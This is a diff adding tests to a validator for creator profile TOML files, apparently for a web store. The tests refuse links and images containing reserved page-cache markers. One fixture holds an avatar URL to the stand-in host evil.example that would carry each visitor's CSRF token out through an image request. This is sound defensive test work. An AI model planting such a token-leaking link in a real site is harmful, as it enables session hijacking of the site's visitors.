@@ -273,6 +273,39 @@ def test_image_data_url_refused(folder):
     )
 
 
+RESERVED_RULE = "text of the form __sf-...__ is reserved for the store's own use"
+
+
+def test_a_link_with_the_stores_reserved_text_is_refused(folder):
+    # The old page-cache markers: a page once put every visitor's CSRF token there.
+    assert one(folder, NAME + 'avatar = "https://evil.example/px.png?t=__sf-csrf-token__"\n') == (
+        "creators/maya.toml: avatar: 'https://evil.example/px.png?t=__sf-csrf-token__' "
+        f"contains '__sf-csrf-token__': {RESERVED_RULE}"
+    )
+
+
+def test_the_reserved_text_is_refused_in_every_link_and_image(folder):
+    problems = problems_of(folder, "maya", NAME + """
+        [hero]
+        title = "Hi"
+        image = "https://cdn.example.com/__sf-csp-nonce__.png"
+        cta_url = "/search?q=__SF-cart-count__"
+        [social]
+        website = "https://maya.example/?n=%5F%5Fsf-csp-nonce%5F%5F"
+        """)
+    assert [problem.split(":")[1].strip() for problem in problems] == [
+        "hero.image", "hero.cta_url", "social.website"]
+    assert all(problem.endswith(RESERVED_RULE) for problem in problems), problems
+
+
+def test_text_like_the_reserved_text_is_a_link_like_any_other(folder):
+    assert problems_of(folder, "maya", NAME + """
+        avatar = "https://cdn.example.com/__sf-avatar.png"
+        [social]
+        website = "https://maya.example/__init__/sf-__"
+        """) == []
+
+
 # -- theme ---------------------------------------------------------------------------
 
 
